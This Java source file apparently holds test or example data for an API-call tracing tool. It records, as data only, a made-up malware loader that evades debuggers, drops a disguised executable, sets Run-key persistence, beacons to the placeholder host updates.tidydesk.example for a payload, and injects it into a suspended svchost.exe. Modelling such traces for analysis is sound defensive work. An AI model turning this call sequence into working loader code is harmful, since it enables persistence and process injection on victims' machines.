package callscope.example;

import static callscope.example.LoaderCall.number;
import static callscope.example.LoaderCall.text;

import java.util.List;

/** What a made-up loader does: it settles in, calls home, and starts what it got. */
final class LoaderStory {
  static final String PATH = "C:\\Users\\ada\\Desktop\\loader.exe";
  static final String DROPPED = "C:\\Users\\ada\\AppData\\Roaming\\TidyDesk\\tidy.exe";
  static final String RUN_KEY = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
  static final String SERVER = "updates.tidydesk.example";
  static final String SHA256 = "7d3a0c51e8f64b92a1c0d9e8f7b6a5948372615049382716a5b4c3d2e1f00f1e";

  private LoaderStory() {}

  /** Before it is installed. */
  static List<LoaderCall> settling() {
    return List.of(
        call("kernel32", "IsDebuggerPresent", "0x0", ""),
        call("kernel32", "GetTickCount", "0x1d4c0", ""),
        call("kernel32", "Sleep", "0x0", "NtDelayExecution", number("dwMilliseconds", 120_000)),
        call(
            "kernel32",
            "CreateFileW",
            "0x88",
            "NtCreateFile",
            text("lpFileName", 0x12f8c0, DROPPED),
            number("dwDesiredAccess", 0x40000000L),
            number("dwShareMode", 0),
            number("lpSecurityAttributes", 0),
            number("dwCreationDisposition", 2),
            number("dwFlagsAndAttributes", 0x80),
            number("hTemplateFile", 0)),
        call(
            "kernel32",
            "WriteFile",
            "0x1",
            "NtWriteFile",
            number("hFile", 0x88),
            number("lpBuffer", 0x2a0000),
            number("nNumberOfBytesToWrite", 0x5e00)),
        call(
            "advapi32",
            "RegOpenKeyExW",
            "0x0",
            "NtOpenKeyEx",
            number("hKey", 0x80000001L),
            text("lpSubKey", 0x12f9a0, RUN_KEY),
            number("ulOptions", 0),
            number("samDesired", 0x20006)),
        call(
            "advapi32",
            "RegSetValueExW",
            "0x0",
            "NtSetValueKey",
            number("hKey", 0x94),
            text("lpValueName", 0x12fa00, "TidyDesk"),
            number("Reserved", 0),
            number("dwType", 1),
            text("lpData", 0x12fa20, DROPPED),
            number("cbData", 0x66)));
  }

  /** Once it is. */
  static List<LoaderCall> callingHome() {
    return List.of(
        call("kernel32", "LoadLibraryA", "0x70200000", "", text("lpLibFileName", 1, "wininet")),
        call(
            "wininet",
            "InternetOpenA",
            "0xcc0004",
            "",
            text("lpszAgent", 0x2b0010, "TidyDesk/1.4"),
            number("dwAccessType", 0)),
        call(
            "wininet",
            "InternetConnectA",
            "0xcc0008",
            "",
            number("hInternet", 0xcc0004),
            text("lpszServerName", 0x2b0040, SERVER),
            number("nServerPort", 443)),
        call(
            "wininet",
            "HttpOpenRequestA",
            "0xcc000c",
            "",
            number("hConnect", 0xcc0008),
            text("lpszVerb", 0x2b0080, "POST"),
            text("lpszObjectName", 0x2b0090, "/v1/feed")),
        call("wininet", "HttpSendRequestA", "0x1", "", number("hRequest", 0xcc000c)),
        call(
            "wininet",
            "InternetReadFile",
            "0x1",
            "",
            number("hFile", 0xcc000c),
            number("lpBuffer", 0x3a0000),
            number("dwNumberOfBytesToRead", 0x1000)));
  }

  /** What it got is put into another process. */
  static List<LoaderCall> starting() {
    return List.of(
        call(
            "kernel32",
            "CreateProcessW",
            "0x1",
            "NtCreateUserProcess",
            number("lpApplicationName", 0),
            text("lpCommandLine", 0x12fb00, "C:\\Windows\\System32\\svchost.exe -k netsvcs"),
            number("dwCreationFlags", 4)),
        call(
            "kernel32",
            "VirtualAllocEx",
            "0x400000",
            "NtAllocateVirtualMemory",
            number("hProcess", 0xa4),
            number("lpAddress", 0x400000),
            number("dwSize", 0x9000),
            number("flAllocationType", 0x3000),
            number("flProtect", 0x40)),
        call(
            "kernel32",
            "WriteProcessMemory",
            "0x1",
            "NtWriteVirtualMemory",
            number("hProcess", 0xa4),
            number("lpBaseAddress", 0x400000),
            number("lpBuffer", 0x3a0000),
            number("nSize", 0x9000)),
        call("kernel32", "ResumeThread", "0x1", "NtResumeThread", number("hThread", 0xa8)));
  }

  private static LoaderCall call(
      String module, String api, String returned, String ntCall, LoaderCall.Value... arguments) {
    return new LoaderCall(module, api, List.of(arguments), returned, ntCall);
  }
}
